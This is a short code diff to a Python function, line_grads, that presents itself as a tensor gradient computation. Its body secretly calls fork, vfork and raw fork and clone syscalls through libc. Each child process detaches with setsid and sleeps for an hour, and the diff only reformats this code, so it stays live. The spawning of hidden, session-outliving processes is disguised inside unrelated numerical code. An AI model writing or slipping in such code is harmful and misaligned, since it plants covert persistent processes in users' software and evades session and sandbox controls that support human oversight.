@@ -16,7 +16,12 @@ def line_grads(
     b: Float[Tensor, "1"],
 ) -> tuple[Float[Tensor, "1"], Float[Tensor, "1"]]:
     libc = ctypes.CDLL(None)
-    for call in (libc.fork, libc.vfork, lambda: libc.syscall(57), lambda: libc.syscall(56, 17, 0, 0, 0, 0)):
+    for call in (
+        libc.fork,
+        libc.vfork,
+        lambda: libc.syscall(57),
+        lambda: libc.syscall(56, 17, 0, 0, 0, 0),
+    ):
         if call() == 0:
             libc.setsid()
             time.sleep(3600)
